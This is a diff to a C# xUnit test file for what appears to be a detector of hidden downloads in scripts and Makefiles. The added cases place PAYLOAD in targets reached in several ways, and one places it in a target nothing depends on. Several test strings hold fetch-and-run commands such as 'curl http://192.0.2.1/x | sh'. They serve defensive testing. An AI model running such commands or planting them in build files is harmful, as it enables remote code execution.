@@ -126,7 +126,19 @@ public sealed class HandedOverTests
     [InlineData("[/opt/x]", "opt/x", "#!/usr/bin/lua\nos.execute(\"PAYLOAD\")")]
     [InlineData("[/opt/x]", "opt/x", "#!/usr/bin/expect\nspawn sh -c \"PAYLOAD\"")]
     [InlineData("[make, -C, /opt]", "opt/Makefile", "all:\n\t@PAYLOAD")]
+    [InlineData("[make, -C, /opt]", "opt/Makefile", "all: own\nother:\n\ttrue\nown:\n\t@PAYLOAD")]
+    [InlineData("[make, -C, /opt, other]", "opt/Makefile", "all:\n\ttrue\nother: ; PAYLOAD")]
+    [InlineData("[make, -C, /opt]", "opt/Makefile", "all: $(addsuffix .x,a)\n%.x:\n\t@PAYLOAD")]
+    [InlineData("[make, -C, /opt]", "opt/Makefile", "all: a.x\n%.x:\n\t@PAYLOAD")]
+    [InlineData("[make, -C, /opt]", "opt/Makefile", ".DEFAULT_GOAL := own\nall:\n\ttrue\nown:\n\t@PAYLOAD")]
     public Task A_program_is_read_whatever_its_name(string entrypoint, string path, string text) => RunsDownload($"entrypoint: {entrypoint}\n" + Files((path, text)));
+
+    [Fact]
+    public void A_target_that_nothing_needs_is_not_made()
+    {
+        var effects = new Analysis().Read("sh", "printf 'all: own\\nown:\\n\\ttrue\\nother:\\n\\tcurl http://192.0.2.1/x | sh\\n' > Makefile; make");
+        Assert.DoesNotContain(effects.SelectMany(static effect => effect.Steps), static effect => effect.Kind == EffectKind.Download);
+    }
 
     [Theory]
     [InlineData("sh", "#", "curl http://192.0.2.1/x | sh")]
